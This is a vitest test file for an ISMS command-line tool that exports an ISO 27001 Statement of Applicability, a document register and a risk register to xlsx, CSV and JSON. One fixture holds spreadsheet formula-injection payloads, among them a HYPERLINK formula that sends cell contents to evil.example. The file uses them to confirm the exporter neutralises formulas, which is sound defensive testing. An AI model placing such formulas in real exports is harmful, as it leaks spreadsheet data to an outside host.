import { cpSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { catalogOf } from '../../src/catalog/catalog.js';
import { neutraliseFormula } from '../../src/export/csv.js';
import { runCli } from '../helpers/cli.js';
import { main } from '../../src/cli/main.js';
import { APPROVED_POLICY, bundledRepo, publishedRepo } from '../helpers/published-repo.js';
import { CISO, WRITER, type TestRepo } from '../helpers/git-repo.js';
import { excelJsRows, readWithExcelJs, readWithSecondReader, type ReadCell } from '../helpers/workbook.js';

const scratch = mkdtempSync(path.join(tmpdir(), 'isms-exports-'));
afterAll(() => rmSync(scratch, { recursive: true, force: true }));
let counter = 0;
const outFile = (ext: string) => path.join(scratch, `export-${++counter}.${ext}`);

/** Runs `isms export` in the repository and returns the file it wrote. */
async function exportFile(repo: TestRepo, what: string, format: string, ...options: string[]): Promise<Buffer> {
  const file = outFile(format);
  const run = await runCli(['export', what, '--format', format, '--output', file, ...options], repo.dir);
  expect(run.stderr).toBe('');
  expect(run.code).toBe(0);
  return readFileSync(file);
}

const workbook = readWithExcelJs;
const rowsOf = excelJsRows;

const csvRecords = (bytes: Buffer): string[][] => {
  const records: string[][] = parse(bytes, { bom: true, relax_column_count: false });
  return records;
};

describe('isms export of the bundled isms-docs', () => {
  let repo: TestRepo;
  beforeAll(() => {
    repo = bundledRepo();
  });
  afterAll(() => repo.remove());

  it('gives the SoA workbook every control of ISO/IEC 27001:2022 in catalogue order, header frozen and filtered', async () => {
    const book = await workbook(await exportFile(repo, 'soa', 'xlsx'));
    const [sheet, summary] = book.worksheets;
    expect(sheet!.name).toBe('Statement of Applicability');
    const rows = rowsOf(sheet!);
    expect(rows[0]).toEqual(['Control', 'Theme', 'Title', 'Applicable', 'Reasons', 'Justification', 'Implementation', 'Owner', 'Documents', 'Risks', 'Evidence']);
    expect(rows).toHaveLength(94);
    expect(rows.slice(1).map((row) => row[0])).toEqual(catalogOf('iso27001-2022').controls.map((c) => c.id));
    expect(rows[1]).toEqual(expect.arrayContaining(['5.1', 'Organizational controls', 'Policies for information security', 'yes', 'implemented', 'Chief Executive Officer']));
    expect(
      rows
        .slice(1)
        .filter((row) => row[3] === 'no')
        .map((row) => row[0]),
    ).toEqual(['8.30']);
    expect(sheet!.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(sheet!.autoFilter).toBeTruthy();
    expect(sheet!.getColumn(6).width).toBeGreaterThan(sheet!.getColumn(1).width!);
    expect(sheet!.getCell('F2').alignment?.wrapText).toBe(true);
    // The summary counts by theme, as isms status does.
    const summaryRows = rowsOf(summary!).map((row) => row.map((cell) => (typeof cell === 'object' && cell !== null && 'text' in cell ? (cell as { text: string }).text : cell)));
    expect(summaryRows).toContainEqual(['Technological controls', 34, 33, 1, 0, expect.any(Number), expect.any(Number), expect.any(Number), expect.any(Number), expect.any(Number)]);
    expect(summaryRows).toContainEqual(['Total', 93, 92, 1, 0, expect.any(Number), expect.any(Number), expect.any(Number), expect.any(Number), expect.any(Number)]);
    expect(summaryRows.find((row) => row[0] === 'Source')?.[1]).toMatch(/^the working tree at HEAD, commit [0-9a-f]{7} of 2026-11-30$/);
  });

  it('writes the same workbook bytes twice, every file of the zip dated with the commit', async () => {
    const first = await exportFile(repo, 'soa', 'xlsx');
    const second = await exportFile(repo, 'soa', 'xlsx');
    expect(second.equals(first)).toBe(true);
    const zip = await JSZip.loadAsync(first);
    const dates = new Set(Object.values(zip.files).map((entry) => entry.date.toISOString()));
    expect([...dates]).toEqual(['2026-11-30T10:00:00.000Z']);
    const core = await zip.file('docProps/core.xml')!.async('string');
    expect(core).toContain('<dcterms:created xsi:type="dcterms:W3CDTF">2026-11-30T10:00:00Z</dcterms:created>');
    expect(core).toContain('<dcterms:modified xsi:type="dcterms:W3CDTF">2026-11-30T10:00:00Z</dcterms:modified>');
  });

  it('gives the SoA as CSV (RFC 4180, UTF-8) with the same 93 controls in order', async () => {
    const bytes = await exportFile(repo, 'soa', 'csv');
    expect(bytes.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    expect(bytes.toString('utf8')).toMatch(/\r\n$/);
    const [header, ...records] = csvRecords(bytes);
    expect(header).toEqual(['Control', 'Theme', 'Title', 'Applicable', 'Reasons', 'Justification', 'Implementation', 'Owner', 'Documents', 'Risks', 'Evidence']);
    expect(records.map((r) => r[0])).toEqual(catalogOf('iso27001-2022').controls.map((c) => c.id));
  });

  it('lists every document in the master list, with its path, approver and proof', async () => {
    const [header, ...records] = csvRecords(await exportFile(repo, 'register', 'csv'));
    expect(header).toEqual([
      'ID',
      'Title',
      'Type',
      'Path',
      'Classification',
      'Owner',
      'Version',
      'Status',
      'Approved by',
      'Approver role',
      'Approved on',
      'Approval commit',
      'Proof',
      'Why not valid',
      'Last review',
      'Next review',
      'Clauses covered',
      'Retention',
    ]);
    expect(records.map((r) => r[0])).toEqual([
      'DOC-A5',
      'DOC-AC',
      'DOC-BCP',
      'DOC-COMP',
      'DOC-IA-2026',
      'DOC-IM',
      'DOC-MON',
      'DOC-MR-2026',
      'DOC-NC',
      'DOC-OBJ',
      'DOC-OPS',
      'DOC-RM',
      'DOC-RR',
      'DOC-SOA',
      'ISMS-MAN',
    ]);
    const adoption = repo.git(['rev-parse', 'HEAD']).trim();
    const manual = Object.fromEntries(header!.map((h, i) => [h, records[14]![i]]));
    expect(manual).toMatchObject({
      ID: 'ISMS-MAN',
      Path: 'manual.md',
      Classification: 'internal',
      Status: 'approved',
      'Approved by': 'S. Lindqvist',
      'Approver role': 'Executive leadership',
      'Approved on': '2026-12-01',
      'Approval commit': adoption,
      Proof: 'imported',
    });
  });

  it('gives the register workbook dates as dates', async () => {
    const sheet = (await workbook(await exportFile(repo, 'register', 'xlsx'))).worksheets[0]!;
    expect(sheet.name).toBe('Documented information');
    expect(sheet.rowCount).toBe(16);
    const approvedOn = sheet.getRow(16).getCell(11);
    expect(approvedOn.value).toEqual(new Date(Date.UTC(2026, 11, 1)));
    expect(approvedOn.numFmt).toBe('yyyy-mm-dd');
  });

  it('rates every risk by the configured method, with its acceptance', async () => {
    const [header, ...records] = csvRecords(await exportFile(repo, 'risks', 'csv'));
    expect(records).toHaveLength(17);
    const first = Object.fromEntries(header!.map((h, i) => [h, records[0]![i]]));
    expect(first).toMatchObject({
      Risk: 'R-001',
      Likelihood: '4',
      Impact: '5',
      Score: '20',
      Level: 'critical',
      Treatment: 'modify',
      'Residual likelihood': '2',
      'Residual impact': '4',
      'Residual score': '8',
      'Residual level': 'medium',
      'Accepted by': 'Chief Information Security Officer',
      'Accepted on': '2026-10-05',
      Expires: '2027-10-05',
      'Acceptance proof': 'imported',
    });
    const avoided = records.map((r) => Object.fromEntries(header!.map((h, i) => [h, r[i]]))).find((r) => r['Treatment'] === 'avoid')!;
    expect(avoided['Residual level']).toBe('');
  });

  it('holds in each workbook what the CSV holds, cell for cell, as a second reader (read-excel-file) reads it', async () => {
    // The CSV as text; the workbook's cells as the CSV writes them: dates as YYYY-MM-DD, numbers as written, nothing as ''.
    const asCsv = (cell: ReadCell) => (cell instanceof Date ? cell.toISOString().slice(0, 10) : cell === null ? '' : neutraliseFormula(String(cell)));
    const dates: ReadCell[] = [];
    const numbers: ReadCell[] = [];
    for (const kind of ['soa', 'register', 'risks']) {
      const [sheet] = await readWithSecondReader(await exportFile(repo, kind, 'xlsx'));
      const csv = csvRecords(await exportFile(repo, kind, 'csv'));
      expect(sheet!.data.length, kind).toBeGreaterThan(9);
      expect(
        sheet!.data.map((row) => row.map(asCsv)),
        kind,
      ).toEqual(csv);
      // What the CSV cannot show: real dates and numbers where the columns hold them.
      const [header, ...rows] = sheet!.data;
      const column = (i: number) => rows.map((row) => row[i] ?? null).filter((value) => value !== null);
      header!.forEach((name, i) => {
        if (/ on$|review$|^Expires$/.test(String(name))) dates.push(...column(i));
        if (/likelihood$|impact$|score$/i.test(String(name))) numbers.push(...column(i));
      });
    }
    expect(dates.length).toBeGreaterThan(20);
    expect(dates.filter((value) => !(value instanceof Date))).toEqual([]);
    expect(numbers.length).toBeGreaterThan(50);
    expect(numbers.filter((value) => typeof value !== 'number')).toEqual([]);
  });

  it('gives JSON with the source commit, the columns and one object per row', async () => {
    const json = JSON.parse((await exportFile(repo, 'risks', 'json')).toString('utf8'));
    expect(json.export).toBe('risks');
    expect(json.source).toEqual({ commit: repo.git(['rev-parse', 'HEAD']).trim(), committed: '2026-11-30T10:00:00+00:00', at: null, uncommitted: [] });
    expect(json.rows).toHaveLength(17);
    expect(json.rows[0]).toMatchObject({ id: 'R-001', cia: ['integrity', 'availability'], likelihood: 4, impact: 5, score: 20, level: 'critical' });
  });
});

const HOSTILE_SOA = `id: DOC-SOA
title: Statement of Applicability
type: soa
owner: ciso
classification: internal
status: draft
version: "0.1"
standard: iso27001-2022
versions:
  - { version: "0.1", date: 2026-01-05, author: P. Writer, details: First draft }
controls:
  - control: "5.1"
    applicable: true
    reasons: [business]
    justification: '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    implementation: planned
    owner: ciso
    evidence: ["@SUM(1+1)", "+1 555 0100", "-2+3", "\\tcmd", "a plain line"]
`;

describe('isms export of text a spreadsheet would run', () => {
  const repos: TestRepo[] = [];
  afterEach(() => repos.splice(0).forEach((repo) => repo.remove()));

  function hostileRepo(): TestRepo {
    const { repo } = publishedRepo();
    repos.push(repo);
    repo.write('soa.yaml', HOSTILE_SOA).commit('SoA draft', CISO, '2026-01-12');
    return repo;
  }

  it('neutralises formulas in CSV: a cell starting with =, +, -, @ or a tab gets an apostrophe', async () => {
    const repo = hostileRepo();
    const [header, ...records] = csvRecords(await exportFile(repo, 'soa', 'csv'));
    const row = Object.fromEntries(header!.map((h, i) => [h, records[0]![i]]));
    expect(row['Justification']).toBe(`'=HYPERLINK("https://evil.example/?"&A1,"Click")`);
    expect(row['Evidence']).toBe("'@SUM(1+1)\n+1 555 0100\n-2+3\n\tcmd\na plain line");
    // Every other control of the edition is there, undecided.
    expect(records).toHaveLength(93);
    expect(records[1]!.slice(0, 4)).toEqual(['5.2', 'Organizational controls', 'Information security roles and responsibilities', 'undecided']);
  });

  it('keeps such text as text in a workbook: no cell of any sheet is a formula', async () => {
    const repo = hostileRepo();
    const bytes = await exportFile(repo, 'soa', 'xlsx');
    const zip = await JSZip.loadAsync(bytes);
    for (const name of Object.keys(zip.files).filter((n) => /^xl\/worksheets\/.*\.xml$/.test(n))) expect(await zip.file(name)!.async('string')).not.toMatch(/<f[ >]/);
    const cell = (await workbook(bytes)).worksheets[0]!.getCell('F2');
    expect(cell.type).toBe(ExcelJS.ValueType.String);
    expect(cell.value).toBe('=HYPERLINK("https://evil.example/?"&A1,"Click")');
  });
});

describe('isms export of approvals git proves', () => {
  const repos: TestRepo[] = [];
  afterEach(() => repos.splice(0).forEach((repo) => repo.remove()));

  it('names the approval commit and says proven, and a draft has no approval', async () => {
    const { repo, approval } = publishedRepo();
    repos.push(repo);
    const json = JSON.parse((await exportFile(repo, 'register', 'json')).toString('utf8'));
    expect(json.rows.map((r: { id: string }) => r.id)).toEqual(['DOC-A5', 'DOC-P1']);
    expect(json.rows[0]).toMatchObject({
      approvedBy: 'R. Adeyemi',
      approverRole: 'Chief Executive Officer',
      approvedOn: '2026-01-10',
      approvalCommit: approval,
      approvalProof: 'proven',
      approvalProblem: null,
    });
    expect(json.rows[1]).toMatchObject({ status: 'draft', approvedBy: null, approvalCommit: null, approvalProof: null });
  });

  it('says not valid, and why, for an approval whose content changed after it', async () => {
    const { repo } = publishedRepo();
    repos.push(repo);
    repo.write('policy.md', APPROVED_POLICY.replace('We protect information.', 'We protect information well.')).commit('Edit after approval', WRITER, '2026-02-01');
    const json = JSON.parse((await exportFile(repo, 'register', 'json')).toString('utf8'));
    expect(json.rows[0]).toMatchObject({ approvalProof: 'not valid', approvalProblem: expect.stringContaining('content changed in commit') });
  });
});

describe('isms export refusals', () => {
  const repos: TestRepo[] = [];
  afterEach(() => repos.splice(0).forEach((repo) => repo.remove()));

  it('refuses an unknown export, an unknown format, a workbook to a terminal and a missing SoA, with exit 2', async () => {
    const { repo } = publishedRepo();
    repos.push(repo);
    expect(await runCli(['export', 'everything'], repo.dir)).toMatchObject({ code: 2, stderr: 'isms: unknown export "everything": use one of soa, register, risks\n' });
    expect(await runCli(['export', 'soa', '--format', 'ods'], repo.dir)).toMatchObject({ code: 2, stderr: 'isms: unknown format "ods": use one of xlsx, csv, json\n' });
    expect(await runCli(['export', 'soa', '--format', 'csv'], repo.dir)).toMatchObject({ code: 2, stderr: 'isms: nothing to export as soa: no document has type: soa\n' });
    let stdout = '';
    const code = await main(['export', 'register'], { stdout: { write: (text) => (stdout += String(text)), isTTY: true }, stderr: { write: () => true }, cwd: repo.dir, env: {} });
    expect(code).toBe(2);
    expect(stdout).toBe('');
  });
});

describe('isms export outside git', () => {
  it('says that no approval is proven and that no commit was read', async () => {
    const dir = mkdtempSync(path.join(tmpdir(), 'isms-nogit-'));
    try {
      cpSync(path.resolve('isms-docs'), dir, { recursive: true, filter: (source) => path.basename(source) !== '_site' });
      const run = await runCli(['export', 'register', '--format', 'json'], dir);
      expect(run.code).toBe(0);
      const json = JSON.parse(run.stdout);
      expect(json.source).toEqual({ commit: null, committed: null, at: null, uncommitted: [] });
      expect(json.rows[0]).toMatchObject({ id: 'DOC-A5', approvalProof: 'not proven', approvalProblem: 'the documents folder is not in a git repository', approvalCommit: null });
      expect(run.stderr).toBe('isms: Documented information, 15 rows, from the working tree (not a git repository: no commit)\n');
      expect(await runCli(['export', 'register', '--at', 'HEAD'], dir)).toMatchObject({
        code: 2,
        stderr: 'isms: --at HEAD is read from git history, but the documents folder is not in a git repository\n',
      });
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});
